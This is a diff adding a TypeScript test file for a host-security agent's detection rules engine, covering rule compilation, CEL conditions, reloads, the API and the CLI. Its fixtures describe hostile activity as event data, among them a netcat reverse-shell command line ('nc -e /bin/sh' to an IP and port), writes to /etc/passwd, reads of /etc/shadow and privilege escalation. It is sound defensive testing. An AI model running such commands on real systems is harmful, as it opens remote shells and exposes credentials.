@@ -1,0 +1,302 @@
+// Detection rules: compiling rule files (lists, macros, rules, overrides) with every problem reported where it
+// is; CEL conditions evaluated against enriched events; the engine as a router subscriber that only takes the
+// event types its rules are about; and a real in-process agent (procfs mode: no BPF, no privileges) raising
+// alerts into its sinks, reloading edited rule files all or nothing, and serving them on the API.
+import assert from 'node:assert/strict';
+import { spawn } from 'node:child_process';
+import fs from 'node:fs';
+import http from 'node:http';
+import path from 'node:path';
+import { test } from 'node:test';
+import { stringify } from 'yaml';
+import { ConfigError, validateConfig } from '../../src/config/config.ts';
+import { Router } from '../../src/pipeline/router.ts';
+import type { OutputEvent } from '../../src/pipeline/types.ts';
+import { alertOf, RuleEngine } from '../../src/rules/engine.ts';
+import { compileOutput, compileRules, DEFAULT_RULES_FILE, readRuleFile, RuleError, RULE_EVENT_TYPES, ruleSetFor, type RuleSet } from '../../src/rules/rules.ts';
+import { formatText } from '../../src/sinks/text-format.ts';
+import { runCli, startTestAgent } from '../helpers/agent.ts';
+import { tempDir } from '../helpers/privileged.ts';
+
+const inline = (items: unknown[], extra: Record<string, unknown> = {}): RuleSet => compileRules({ sources: [{ name: 'test', items }], ...extra });
+const rule = (name: string, condition: string, more: Record<string, unknown> = {}) => ({ rule: name, condition, output: `${name}: {process.comm}`, priority: 'warning', ...more });
+
+/** An enriched event as the pipeline makes it. */
+function event(type: string, fields: Record<string, unknown> = {}, parts: Partial<OutputEvent> = {}): OutputEvent {
+  return { type, time: '2026-11-23T10:00:00.000Z', ktimeNs: 123, process: { pid: 42, comm: 'bash', exe: '/usr/bin/bash', argv: ['bash', '-i'], uid: 1000, user: 'ann', tty: 'pts/0' }, parent: { pid: 1, comm: 'sshd' }, ancestors: [1], ...parts, ...fields };
+}
+
+/** The names of the rules that match `ev` (evaluation errors thrown). */
+function matching(set: RuleSet, ev: OutputEvent): string[] {
+  const ctx = set.context(ev);
+  return set.rulesFor(ev.type).filter((r) => r.match(ctx)).map((r) => r.name);
+}
+
+function issuesOf(fn: () => unknown): { path: string; message: string }[] {
+  try {
+    fn();
+  } catch (err) {
+    if (err instanceof RuleError || err instanceof ConfigError) return err.issues;
+    throw err;
+  }
+  assert.fail('expected a RuleError');
+}
+
+test('the default rules compile, every one about named event types, all of them known', () => {
+  const set = compileRules({ sources: [readRuleFile(DEFAULT_RULES_FILE)] });
+  assert.ok(set.rules.length >= 10, `${set.rules.length} rules`);
+  for (const r of set.rules) {
+    assert.ok(r.types?.length, `${r.name} names its event types (an untyped rule would make every event an object)`);
+    for (const t of r.types!) assert.ok(RULE_EVENT_TYPES.has(t), `${r.name}: ${t}`);
+    assert.ok(r.desc && r.output, r.name);
+  }
+  assert.deepEqual(ruleSetFor(validateConfig({}).rules)!.digest, set.digest, 'the configuration loads them by default');
+  assert.equal(ruleSetFor(validateConfig({ rules: { enabled: false } }).rules), undefined);
+});
+
+test('the default rules match what they are about, and not the ordinary', () => {
+  const set = compileRules({ sources: [readRuleFile(DEFAULT_RULES_FILE)] });
+  const ctr = { container: { id: 'a'.repeat(64), name: 'web', image: 'nginx', enrichment: 'done' as const } };
+  assert.deepEqual(matching(set, event('exec', {}, ctr)), ['Terminal shell in container']);
+  assert.deepEqual(matching(set, event('exec')), [], 'a shell on the host');
+  assert.deepEqual(matching(set, event('exec', {}, { ...ctr, process: { pid: 9, comm: 'bash', argv: ['bash', 'x.sh'] } })), [], 'a script in a container: no tty');
+  const open = (p: string, more: Record<string, unknown> = {}, proc: Record<string, unknown> = {}) => event('open', { path: p, resolvedPath: p, ret: 3, write: true, sensitive: p.startsWith('/etc/'), flagNames: 'O_WRONLY|O_CREAT|O_TRUNC', ...more }, { process: { pid: 5, comm: 'vi', ...proc } });
+  assert.deepEqual(matching(set, open('/etc/passwd')), ['Sensitive file modified']);
+  assert.deepEqual(matching(set, open('/etc/passwd', { ret: -13 })), [], 'a refused open changed nothing');
+  assert.deepEqual(matching(set, open('/etc/passwd', {}, { comm: 'dpkg' })), [], 'package managers');
+  assert.deepEqual(matching(set, { ...open('/etc/passwd'), parent: { pid: 3, comm: 'apt-get' } }), [], 'children of package managers');
+  assert.deepEqual(matching(set, open('/var/log/auth.log', { sensitive: false })), ['Log file truncated']);
+  assert.deepEqual(matching(set, open('/etc/shadow', { write: false, sensitive: false, flagNames: 'O_RDONLY' }, { comm: 'cat' })), ['Read sensitive file untrusted']);
+  assert.deepEqual(matching(set, open('/etc/shadow', { write: false, sensitive: false, flagNames: 'O_RDONLY' }, { comm: 'sshd' })), []);
+  assert.deepEqual(matching(set, event('exec', {}, { process: { pid: 7, comm: '3', exe: '/memfd:x (deleted)' } })), ['Fileless execution']);
+  assert.deepEqual(matching(set, event('exec', {}, { process: { pid: 7, comm: 'nc', exe: '/usr/bin/nc', argv: ['nc', '-e', '/bin/sh', '10.0.0.1', '4444'] } })), ['Netcat remote code execution']);
+  assert.deepEqual(matching(set, event('exec', {}, { process: { pid: 7, comm: 'nc', exe: '/usr/bin/nc', argv: ['nc', '-z', 'host', '80'] } })), []);
+  assert.deepEqual(matching(set, event('ptrace', { request: 'PTRACE_ATTACH', targetPid: 77, ret: 0 })), ['Process attached with ptrace']);
+  assert.deepEqual(matching(set, event('ptrace', { request: 'PTRACE_TRACEME', ret: 0 })), []);
+  const creds = (oldEuid: number, comm: string) => event('creds', { syscall: 'setresuid', old: { uid: 1000, euid: oldEuid }, new: { uid: 0, euid: 0 } }, { process: { pid: 8, comm } });
+  assert.deepEqual(matching(set, creds(1000, 'exploit')), ['Root privileges gained']);
+  assert.deepEqual(matching(set, creds(1000, 'sudo')), []);
+  assert.deepEqual(matching(set, creds(0, 'exploit')), [], 'already root');
+  assert.deepEqual(matching(set, event('creds', { syscall: 'setresuid', new: { uid: 0, euid: 0 } })), [], 'no previous credentials known: has(event.old) is false');
+});
+
+test('lists (also of lists), macros, overrides, append, disabled and minPriority', () => {
+  const set = inline(
+    [
+      { list: 'shells', items: ['bash', 'sh'] },
+      { list: 'more_shells', items: ['shells', 'zsh'] },
+      { list: 'shells', items: ['dash'], append: true },
+      { macro: 'is_shell', condition: 'process.comm in more_shells' },
+      { macro: 'root', condition: 'process.uid == 0' },
+      rule('shell', 'is_shell'),
+      rule('root shell', 'is_shell && root', { types: ['exec'] }),
+      rule('quiet', 'true', { priority: 'debug' }),
+      rule('off', 'true', { enabled: false }),
+      { rule: 'shell', condition: 'process.comm == "zsh"', append: true },
+      { rule: 'off', enabled: true },
+      { rule: 'root shell', enabled: false },
+    ],
+    { minPriority: 'notice' },
+  );
+  assert.deepEqual([...set.lists], [['shells', ['bash', 'sh', 'dash']], ['more_shells', ['bash', 'sh', 'dash', 'zsh']]], 'a list naming a list takes its final items (appends included)');
+  assert.deepEqual(set.rules.map((r) => [r.name, r.enabled]), [['shell', true], ['root shell', false], ['quiet', false], ['off', true]]);
+  assert.equal(set.types(), undefined, 'a rule without types is about every type');
+  assert.deepEqual(matching(set, event('exec', {}, { process: { pid: 1, comm: 'zsh', uid: 0 } })), ['shell', 'off']);
+  assert.deepEqual(matching(set, event('exec', {}, { process: { pid: 1, comm: 'bash', uid: 0 } })), ['off'], 'append added a condition: bash is no longer enough');
+  const d = inline([rule('a', 'true', { types: ['exec'] }), rule('b', 'true', { types: ['open', 'exec'] })], { disabled: ['a'] });
+  assert.deepEqual([...d.types()!], ['open', 'exec']);
+  assert.deepEqual(matching(d, event('exec')), ['b']);
+  assert.deepEqual(matching(d, event('exit')), []);
+  assert.notEqual(d.digest, inline([rule('a', 'true', { types: ['exec'] }), rule('b', 'true', { types: ['open', 'exec'] })]).digest, 'the digest follows what is enabled');
+});
+
+test('macros are evaluated lazily, once per event, whatever number of rules use them', () => {
+  let calls = 0;
+  const set = inline([{ macro: 'm', condition: 'event.n > 0' }, rule('r1', 'false && m'), rule('r2', 'm'), rule('r3', 'm && m')]);
+  const ev = event('exec', { n: 1 });
+  const ctx = set.context(ev);
+  Object.defineProperty(ev, 'n', { get: () => (calls++, 1), enumerable: true });
+  assert.deepEqual(set.rulesFor('exec').map((r) => r.match(ctx)), [false, true, true]);
+  assert.equal(calls, 1);
+});
+
+test('CEL: missing parts are empty, has() and optionals test for fields, numbers compare with ints', () => {
+  const set = inline([
+    rule('in container', 'has(container.id)'),
+    rule('pod', 'pod.?namespace.orValue("") == "prod"'),
+    rule('uid', 'process.uid in [0, 1000] && event.ret < 0'),
+    rule('argv', 'process.argv.exists(a, a.startsWith("-i"))'),
+    rule('ancestry', '1 in ancestors && size(ancestors) == 1'),
+    rule('regex', 'process.exe.matches("^/usr/(s)?bin/")'),
+  ]);
+  assert.deepEqual(matching(set, event('exec', { ret: -2 })), ['uid', 'argv', 'ancestry', 'regex']);
+  assert.deepEqual(matching(set, event('exec', { ret: 0 }, { container: { id: 'c', enrichment: 'done' }, pod: { uid: 'u', namespace: 'prod' }, ancestors: undefined })), ['in container', 'pod', 'argv', 'regex']);
+  // A field an event lacks, used without has(): an evaluation error, which the engine counts as no match.
+  const bad = inline([rule('strict', 'container.name == "web"')]);
+  assert.throws(() => bad.rulesFor('exec')[0]!.match(bad.context(event('exec'))), /No such key: name/);
+});
+
+test('every problem in a rule set is reported with where it is, and nothing is loaded', () => {
+  const cases: [unknown, RegExp][] = [
+    [{ list: 'a' }, /^test item 1 \(list "a"\)\.items: expected a list of strings and numbers, got undefined$/],
+    [{ list: 'process', items: [] }, /\.list: a list name must be an identifier/],
+    [{ list: 'a-b', items: [] }, /\.list: a list name must be an identifier/],
+    [{ macro: 'm', condition: 'm2' }, /\(macro "m"\)\.condition: Unknown variable: m2 \(at column 1\)/],
+    [rule('r', 'process.comm =='), /\(rule "r"\)\.condition: Unexpected token: EOF \(at column 16\)/],
+    [rule('r', 'process.comm = "x"'), /\.condition: Unexpected character: = \(at column 14\)/],
+    [rule('r', '1 + 2'), /\.condition: the condition is of type int; it must be true or false/],
+    [rule('r', 'true', { priority: 'loud' }), /\.priority: expected one of emergency, alert, .*, got "loud"/],
+    [rule('r', 'true', { types: ['exec', 'execve'] }), /\.types: unknown event type "execve" \(known: exec,/],
+    [rule('r', 'true', { types: [] }), /\.types: expected a non-empty list of event types/],
+    [rule('r', 'true', { output: 'x {process comm}' }), /\.output: placeholder \{process comm\}: expected a field path/],
+    [rule('r', 'true', { output: 'x } y' }), /\.output: unmatched brace/],
+    [rule('r', 'true', { when: 'now' }), /\(rule "r"\): unknown field "when" \(known: rule, desc,/],
+    [{ rule: 'nothing before', enabled: false }, /no earlier rule "nothing before" to turn off/],
+    [rule('r', 'true', { append: true }), /append: no earlier rule "r" to append to/],
+    [{ rule: 'r', list: 'l', items: [] }, /has list and rule: an item is one list, one macro or one rule/],
+    [{ priority: 'warning' }, /has none of list, macro, rule \(fields: priority\)/],
+    ['just text', /test item 1: expected a mapping with list, macro or rule, got "just text"/],
+  ];
+  for (const [item, want] of cases) {
+    const issues = issuesOf(() => inline([item]));
+    assert.equal(issues.length, 1, `${JSON.stringify(item)}: ${JSON.stringify(issues)}`);
+    assert.match(`${issues[0]!.path}: ${issues[0]!.message}`, want, JSON.stringify(item));
+  }
+  // Several problems: all of them, in one error.
+  const many = issuesOf(() => inline([rule('a', '1 +'), { macro: 'x', condition: 'y' }, { macro: 'y', condition: 'x' }, rule('b', 'true', { priority: 'no' })]));
+  assert.deepEqual(many.map((i) => i.path), ['test item 4 (rule "b").priority', 'test item 2 (macro "x").condition', 'test item 3 (macro "y").condition', 'test item 1 (rule "a").condition']);
+  assert.match(many[1]!.message, /macros use each other in a cycle: x → y → x/);
+  assert.deepEqual(issuesOf(() => inline([rule('a', 'true')], { disabled: ['b'] })), [{ path: 'rules.disabled', message: 'no rule named "b" (rules: "a")' }]);
+  assert.deepEqual(issuesOf(() => compileRules({ sources: [{ name: 'f.yaml', items: { rule: 'x' } }] })), [{ path: 'f.yaml', message: 'expected a list of items (- list: …, - macro: …, - rule: …), got a mapping' }]);
+});
+
+test('rule files: YAML errors with their line, unreadable files, and the configuration naming where each problem is', (t) => {
+  const dir = tempDir(t, 'vigil-rules-');
+  const f = path.join(dir, 'r.yaml');
+  fs.writeFileSync(f, '- rule: x\n  condition: true\n  output: "a\n');
+  assert.match(JSON.stringify(issuesOf(() => readRuleFile(f))), /r\.yaml line \d+, column \d+/);
+  fs.writeFileSync(f, Buffer.from([0x2d, 0x20, 0xff, 0x0a]));
+  assert.deepEqual(issuesOf(() => readRuleFile(f, 'label')), [{ path: 'label', message: 'not valid UTF-8; save the file as UTF-8' }]);
+  assert.match(issuesOf(() => readRuleFile(path.join(dir, 'none.yaml')))[0]!.message, /cannot read it: ENOENT/);
+  fs.writeFileSync(f, stringify([rule('from file', 'process.comm ==')]));
+  const issues = issuesOf(() => validateConfig({ rules: { files: [f], inline: [rule('ok', 'true'), rule('inline', 'true', { types: ['nope'] })], minPriority: 'warning' } }));
+  assert.deepEqual(issues.map((i) => i.path), ['rules.inline.1 (rule "inline").types', `rules.files.0 (${f}) item 1 (rule "from file").condition`]);
+  assert.deepEqual(issuesOf(() => validateConfig({ rules: { minPriority: 'loud', queue: 0 } })).map((i) => i.path), ['rules.minPriority', 'rules.queue']);
+});
+
+test('outputs: placeholders from the event and its parts, <NA> for what it lacks, literal braces', () => {
+  const f = compileOutput('{{x}} {process.comm} {event.path} {path} {process.argv} {ancestors[0]} {container.name} {event.old}', assert.fail)!;
+  assert.equal(f(event('open', { path: '/etc/x', old: { a: 1 } })), '{x} bash /etc/x /etc/x bash -i 1 <NA> {"a":1}');
+});
+
+test('the engine: a subscriber only of its rules\' types; alerts through emit; errors counted; reloads keep the queue', () => {
+  const router = new Router();
+  const alerts: OutputEvent[] = [];
+  const engine = new RuleEngine({ router, emit: (a) => alerts.push(a), queue: 3 });
+  assert.equal(router.wants('exec'), false);
+  engine.setRules(inline([rule('shell', 'process.comm == "bash"', { types: ['exec'], tags: ['t'] }), rule('strict', 'container.name == "x"', { types: ['exec'] })]));
+  assert.deepEqual([router.size, router.wants('exec'), router.wants('open')], [1, true, false], 'no object is built for types no rule is about');
+  const ev = event('exec', { filename: '/bin/bash' });
+  router.publish(ev, '');
+  engine.flush();
+  assert.equal(alerts.length, 1);
+  assert.deepEqual(alerts[0], { type: 'alert', time: ev.time, ktimeNs: 123, process: ev.process, parent: ev.parent, ancestors: [1], rule: 'shell', priority: 'warning', output: 'shell: bash', tags: ['t'], event: { type: 'exec', filename: '/bin/bash' } });
+  assert.match(formatText(alerts[0]!, false), /alert .* 42 bash\(ann\) \[warning\] shell: shell: bash$/);
+  // An alert published back is never checked again.
+  router.publish(alerts[0]!, '');
+  engine.flush();
+  let st = engine.status()!;
+  assert.deepEqual([st.received, st.alerts, st.errors, st.dropped], [1, 1, 1, 0], 'the alert was not given to the engine (not its type)');
+  assert.match(st.perRule.find((r) => r.name === 'strict')!.lastError!, /exec event: No such key: name/);
+  // Overflow of its queue: counted.
+  for (let i = 0; i < 5; i++) router.publish(ev, '');
+  // A reload while events wait: they stay queued and are checked by the new rules.
+  engine.setRules(inline([rule('shell', 'true', { types: ['exec', 'open'] })]));
+  assert.equal(router.wants('open'), true);
+  engine.flush();
+  st = engine.status()!;
+  assert.deepEqual([st.received, st.dropped, st.alerts, alerts.length], [4, 2, 4, 4]);
+  assert.deepEqual(st.perRule.map((r) => [r.name, r.enabled, r.matches]), [['shell', true, 4], ['strict', false, 0]], 'counters of a rule survive a reload; a removed rule shows as off');
+  // No rule left: no subscription, so no event objects for the rules' sake; counters stay.
+  engine.setRules(inline([rule('shell', 'true', { enabled: false })]));
+  assert.deepEqual([router.size, router.wants('exec')], [0, false]);
+  assert.equal(engine.status()!.dropped, 2);
+  assert.deepEqual(alertOf(inline([rule('x', 'true')]).rules[0]!, { type: 'open', time: 't', ktimeNs: 1, path: '/p' }), { type: 'alert', time: 't', ktimeNs: 1, rule: 'x', priority: 'warning', output: 'x: <NA>', event: { type: 'open', path: '/p' } });
+});
+
+test('an in-process agent raises alerts into its sinks, reloads edited rule files all or nothing, and serves them', async (t) => {
+  const dir = tempDir(t, 'vigil-rules-agent-');
+  const rules = path.join(dir, 'rules.yaml');
+  const config = path.join(dir, 'vigil.yaml');
+  const mark = (n: string) => rule(`mark ${n}`, `process.?argv.orValue([]).exists(a, a == "vigil-rule-${n}")`, { types: ['exec'], output: `marked {process.argv} by {parent.comm}` });
+  fs.writeFileSync(rules, stringify([mark('one')]));
+  fs.writeFileSync(config, stringify({ process: { mode: 'procfs' }, containers: { enabled: false }, events: { process: { exec: true, exit: false }, files: false, network: false, other: false }, rules: { defaults: false, files: [rules] } }));
+  const ta = await startTestAgent(t, { configFile: config });
+  const run = (n: string) => new Promise<void>((resolve, reject) => spawn('/bin/sh', ['-c', 'sleep 0.02', `vigil-rule-${n}`]).on('exit', () => resolve()).on('error', reject));
+  const alertFor = (n: string) => (e: OutputEvent) => e.type === 'alert' && e.rule === `mark ${n}`;
+
+  await run('one');
+  const a = await ta.sink.waitFor(alertFor('one'), 'the alert');
+  assert.equal(a.priority, 'warning');
+  assert.deepEqual((a.process as { argv: string[] }).argv, ['/bin/sh', '-c', 'sleep 0.02', 'vigil-rule-one']);
+  assert.match(String(a.output), /^marked \/bin\/sh -c sleep 0\.02 vigil-rule-one by /);
+  assert.equal((a.event as { type: string }).type, 'exec');
+  const exec = ta.sink.find((e) => e.type === 'exec' && (e.process as { argv?: string[] }).argv?.includes('vigil-rule-one') === true);
+  assert.ok(exec && ta.sink.events.indexOf(exec) < ta.sink.events.indexOf(a), 'the event goes out before its alert');
+
+  // The file edited, the configuration not: a reload reads the file again and applies it.
+  fs.writeFileSync(rules, stringify([mark('two')]));
+  const r = ta.agent.reload();
+  assert.deepEqual(r.changed, ['rules.files (contents)']);
+  await run('one');
+  await run('two');
+  await ta.sink.waitFor(alertFor('two'), 'the new rule\'s alert');
+  ta.agent.drain();
+  assert.equal(ta.sink.events.filter(alertFor('one')).length, 1, 'the old rule is gone');
+
+  // A broken edit: rejected whole, the rules in force stay.
+  fs.writeFileSync(rules, stringify([mark('three'), rule('broken', 'process.comm ==')]));
+  assert.throws(() => ta.agent.reload(), (e: Error) => e instanceof ConfigError && /rules\.files\.0 .* item 2 \(rule "broken"\)\.condition: Unexpected token/.test(e.message));
+  await run('two');
+  ta.agent.drain();
+  await ta.sink.waitFor((e) => alertFor('two')(e) && ta.sink.events.filter(alertFor('two')).length === 2, 'the rule in force still fires');
+
+  // The API lists the rules with their counters; `vigil rules` shows them.
+  await ta.api();
+  const body = await new Promise<{ active: boolean; summary: { alerts: number }; rules: { name: string; matches: number }[] }>((resolve, reject) => {
+    http.get({ socketPath: ta.socket, path: '/v1/rules' }, (res) => {
+      let s = '';
+      res.on('data', (d) => (s += d)).on('end', () => resolve(JSON.parse(s))).on('error', reject);
+    }).on('error', reject);
+  });
+  assert.equal(body.active, true);
+  assert.deepEqual(body.rules.map((x) => [x.name, x.matches]), [['mark two', 2]]);
+  assert.ok(body.summary.alerts >= 3);
+  const cli = await runCli(['rules', '--socket', ta.socket]);
+  assert.equal(cli.status, 0, cli.stderr);
+  assert.match(cli.stdout, /on\s+warning\s+2\s+0\s+exec\s+mark two/);
+  const st = ta.agent.status();
+  assert.equal(st.rules!.enabled, 1);
+
+  await ta.agent.stop();
+  const acc = ta.agent.accounting();
+  assert.ok(acc.final && acc.balanced, 'alerts are synthetic events: the accounting still balances');
+  assert.equal(acc.pipeline.synthetic, ta.sink.events.filter((e) => e.type === 'alert').length);
+});
+
+test('vigil rules check: 0 for good files, 2 with every problem for bad ones', async (t) => {
+  const dir = tempDir(t, 'vigil-rules-cli-');
+  const good = path.join(dir, 'good.yaml');
+  const bad = path.join(dir, 'bad.yaml');
+  fs.writeFileSync(good, stringify([{ rule: 'Terminal shell in container', enabled: false }, rule('mine', 'in_container', { types: ['exec'] })]));
+  fs.writeFileSync(bad, stringify([rule('x', 'in_container')]));
+  const ok = await runCli(['rules', 'check', good]);
+  assert.equal(ok.status, 0, ok.stderr);
+  assert.match(ok.stdout, /^ok: \d+ rules \(\d+ on\), \d+ lists, \d+ macros; about/);
+  const alone = await runCli(['rules', 'check', '--no-defaults', bad]);
+  assert.equal(alone.status, 2);
+  assert.match(alone.stderr, /bad\.yaml item 1 \(rule "x"\)\.condition: Unknown variable: in_container/);
+  const withDefaults = await runCli(['rules', 'check', '--json', bad]);
+  assert.equal(withDefaults.status, 0, 'the default set defines the macro');
+  assert.equal(JSON.parse(withDefaults.stdout).ok, true);
+});
